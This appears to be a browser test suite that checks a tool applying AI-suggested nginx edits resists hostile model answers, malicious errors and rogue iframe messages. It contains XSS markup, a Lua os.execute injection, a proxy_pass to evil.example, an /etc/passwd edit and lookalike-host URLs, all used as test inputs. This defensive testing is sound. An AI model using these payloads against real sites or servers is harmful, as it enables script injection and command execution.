// Answers that want more than they may, and parts of the page that have turned against each other.

import { editorText, equal, match, ok, text } from './lib/check.mjs'
import { Asking, prepare, sendWith, verdict } from './lib/asking.mjs'
import { OLD, RIGHT, edits } from './lib/planted.mjs'
import { keepsSecrets } from './refactor.mjs'
import { KEY, error } from './lib/providers.mjs'

const MARKUP =
  '<img src=x onerror="globalThis.owned=1"><script>globalThis.owned=1</script><iframe srcdoc="<script>parent.owned=1</script>"></iframe>'

const HOSTILE = {
  'an invented placeholder': edits([OLD, 'fastcgi_read_timeout BGSECRET_099;']),
  'a moved placeholder': edits([OLD, `${RIGHT} add_header X BGSECRET_001;`]),
  'a foreign host': edits([OLD, `${RIGHT} proxy_pass http://evil.example;`]),
  'code': edits([OLD, `${RIGHT} rewrite_by_lua_block { os.execute('id') }`]),
  'another file': edits(['root:x:0:0', 'x', '/etc/passwd']),
  prose: 'I am sorry, I cannot help with that. <b>But</b> here is a poem.',
  markup: MARKUP,
  'edits of markup': JSON.stringify([{ file: MARKUP, old: MARKUP, new: MARKUP, why: MARKUP }]),
  'a reason of markup': JSON.stringify([
    { file: 'nginx-1.conf', old: OLD, new: `${RIGHT} return 302 "${MARKUP.replaceAll('"', '')}";`, why: MARKUP },
  ]),
  'a hidden value that it should not know': edits([OLD, 'fastcgi_param X hunter2-Zq81-canary;']),
  'a script address': edits([OLD, 'return 302 javascript:alert(1);']),
}

/** Twice the same, so that both questions are answered with it. */
async function adversary(lab) {
  const asking = await Asking.of(lab)
  const opened = await asking.open()
  const { app, page } = opened
  const before = await editorText(app)
  let key = KEY
  for (const [name, answer] of Object.entries(HOSTILE)) {
    asking.providers.play(() => answer)
    const courier = await prepare(opened, 'anthropic')
    await sendWith(opened, courier, key)
    key = null
    await app.getByRole('heading', { name: /The second question|What became of it/ }).waitFor()
    const again = app.getByRole('button', { name: /^Send to/ })
    if (await again.isVisible()) await again.click()
    const said = await verdict(opened)
    if (name !== 'prose' && name !== 'markup') match(said, /0 edits of the model taken, [1-9]/, name)
    else match(said, /holds no list of edits/, name)
    equal(await editorText(app), before, name)
    for (const frame of page.frames()) {
      equal(await frame.evaluate(() => globalThis.owned), undefined, name)
    }
    equal(await app.locator('#app img, #app script, #app iframe, #app b').filter({ hasText: /owned|But/ }).count(), 0)
    equal(page.frames().length, 3, 'the document, the vault, the courier')
    ok(asking.providers.posts.length <= 2, name)
    keepsSecrets(asking.providers.heard)
    await app.getByRole('button', { name: 'Ask anew' }).click()
  }
  asking.quiet(opened, ['https://api.anthropic.com'])
  return `${Object.keys(HOSTILE).length} answers, nothing applied, nothing run`
}

/** What a provider says of an error is text. */
async function hostileError(lab) {
  const asking = await Asking.of(lab)
  asking.providers.play(() => error(400, MARKUP))
  const opened = await asking.open()
  const courier = await prepare(opened, 'openai')
  await sendWith(opened, courier)
  match(await verdict(opened), /does not take the request.*<img src=x/)
  equal(await opened.app.evaluate(() => globalThis.owned), undefined)
  equal(await opened.app.locator('.ask img, .ask iframe').count(), 0)
  // The browser itself tells of the status.
  opened.seen.console = opened.seen.console.filter(line => !line.includes('status of 400'))
  asking.quiet(opened, ['https://api.openai.com'])
}

/** Keeps the vault's end of the channel where the test finds it. */
function holdPort() {
  addEventListener('message', event => {
    if (!event.ports[0] || globalThis.held) return
    globalThis.held = event.ports[0]
    globalThis.heard = []
    // A second channel behind the first one: the page must not see that somebody listens.
    event.ports[0].addEventListener('message', ({ data }) => globalThis.heard.push(data))
  })
}

/** The vault is anybody's: the courier does what its own rules say. */
async function rogueVault(lab) {
  const asking = await Asking.of(lab)
  asking.providers.play(() => '[]')
  const opened = await asking.open({ before: holdPort })
  const { app } = opened
  const courier = await prepare(opened, 'openrouter', 'm-1')
  await courier.locator('#key').fill(KEY)
  await courier.getByRole('button', { name: 'Use this key' }).click()
  const good = {
    url: 'https://openrouter.ai/api/v1/chat/completions',
    headers: [['content-type', 'application/json']],
    key_header: { name: 'authorization', prefix: 'Bearer ' },
    needs_key: true,
    body: '{}',
  }
  const bad = {
    'another host': { url: 'https://api.openai.com/v1/chat/completions' },
    'another scheme': { url: 'http://openrouter.ai/api/v1/chat/completions' },
    'another port': { url: 'https://openrouter.ai:444/api/v1/chat/completions' },
    'a host that only begins so': { url: 'https://openrouter.ai.evil.example/api/v1' },
    'a name in the address': { url: 'https://x:y@openrouter.ai/api/v1/chat/completions' },
    'a query': { url: 'https://openrouter.ai/api/v1/chat/completions?key=1' },
    'a fragment': { url: 'https://openrouter.ai/api/v1/chat/completions#x' },
    'another path': { url: 'https://openrouter.ai/elsewhere' },
    'no address': { url: 'openrouter.ai' },
    'this server': { url: `${asking.origin}/x` },
    'a foreign header': { headers: [['x-more', '1']] },
    'the key elsewhere': { key_header: { name: 'x-more', prefix: '' } },
  }
  await app.evaluate(() => globalThis.heard.splice(0))
  for (const [name, change] of Object.entries(bad)) {
    await app.evaluate(request => globalThis.held.postMessage({ kind: 'send', request }), { ...good, ...change })
    await app.waitForFunction(() => globalThis.heard.some(one => one.kind === 'failed'))
    const heard = await app.evaluate(() => globalThis.heard.splice(0))
    equal(heard.map(one => one.kind).join(), 'failed', name)
  }
  for (const nonsense of [null, 7, 'send', {}, { kind: 'send' }, { kind: 'key' }, { kind: 'send', request: { url: 1 } }]) {
    await app.evaluate(data => globalThis.held.postMessage(data), nonsense)
  }
  await opened.page.waitForTimeout(200)
  equal(asking.providers.heard.length, 0, 'nothing was sent')
  equal((await app.evaluate(() => globalThis.heard)).length, 0)
  // And what it may: so the courier was listening all the time.
  await app.evaluate(request => globalThis.held.postMessage({ kind: 'send', request }), good)
  await app.waitForFunction(() => globalThis.heard.some(one => one.kind === 'reply'))
  equal(asking.providers.posts.length, 1)
  ok(!JSON.stringify(await app.evaluate(() => globalThis.heard)).includes(KEY))
}

/** Wishes that are none, and a courier that nobody wished for. */
async function rogueWishes(lab) {
  const asking = await Asking.of(lab)
  const opened = await asking.open()
  const { app, page } = opened
  for (const want of ['../evil', 'https://evil.example', 'constructor', 1, {}, ['local'], true]) {
    await app.evaluate(one => parent.postMessage({ want: one }, '*'), want)
  }
  await page.waitForTimeout(200)
  equal(page.frames().length, 2)
  asking.quiet(opened, [])
}

/** A page of somebody else that holds a courier in a frame, to be given a key. */
async function foreignFrame(lab, path) {
  const asking = await Asking.of(lab)
  const context = await asking.browser.newContext()
  const page = await context.newPage()
  // The same machine and another origin.
  await page.goto(`${asking.own.replace('127.0.0.1', 'localhost')}${path}framing`)
  const answered = await page.evaluate(async () => {
    const frame = document.querySelector('iframe')
    const { port1, port2 } = new MessageChannel()
    const heard = new Promise(yes => {
      port1.onmessage = ({ data }) => yes(JSON.stringify(data))
      setTimeout(() => yes('nothing'), 1500)
    })
    await new Promise(done => setTimeout(done, 500))
    frame.contentWindow.postMessage({ vault: true }, '*', [port2])
    return heard
  })
  equal(answered, 'nothing')
  await context.close()
}

/** Without a document around it the courier asks for no key. */
async function aloneCourier(lab) {
  const asking = await Asking.of(lab)
  const context = await asking.browser.newContext()
  const page = await context.newPage()
  await page.goto(`${asking.origin}/courier-openai.html`)
  match(await text(page, 'main'), /does nothing alone/)
  equal(await page.locator('input').count(), 0)
  await context.close()
}

/** What is no key is not taken for one; a pasted line feed at its end does no harm. */
async function keys(lab) {
  const asking = await Asking.of(lab)
  asking.providers.play(() => '[]')
  const opened = await asking.open()
  const courier = await prepare(opened, 'anthropic')
  for (const wrong of ['', 'two words', 'ключ', 'a"b', 'a\\b']) {
    await courier.locator('#key').fill(wrong)
    await courier.getByRole('button', { name: 'Use this key' }).click()
    match(await text(courier, '.state'), /no key/)
  }
  await courier.locator('#key').fill(`  ${KEY} `)
  await courier.locator('#key').press('Enter')
  match(await text(courier, '.state'), /held in memory/)
  equal(await courier.locator('#key').inputValue(), '')
  await opened.page.reload()
  await opened.app.waitForSelector('.welcome').catch(() => {})
  equal(opened.page.frames().some(frame => frame.url().includes('courier')), false, 'forgotten with the page')
}

export default {
  'a hostile model': adversary,
  'a hostile error': hostileError,
  'a vault that has turned': rogueVault,
  'wishes that are none': rogueWishes,
  'a courier in a foreign frame': lab => foreignFrame(lab, '/'),
  'the same without any header': lab => foreignFrame(lab, '/bare/'),
  'a courier alone': aloneCourier,
  keys,
}
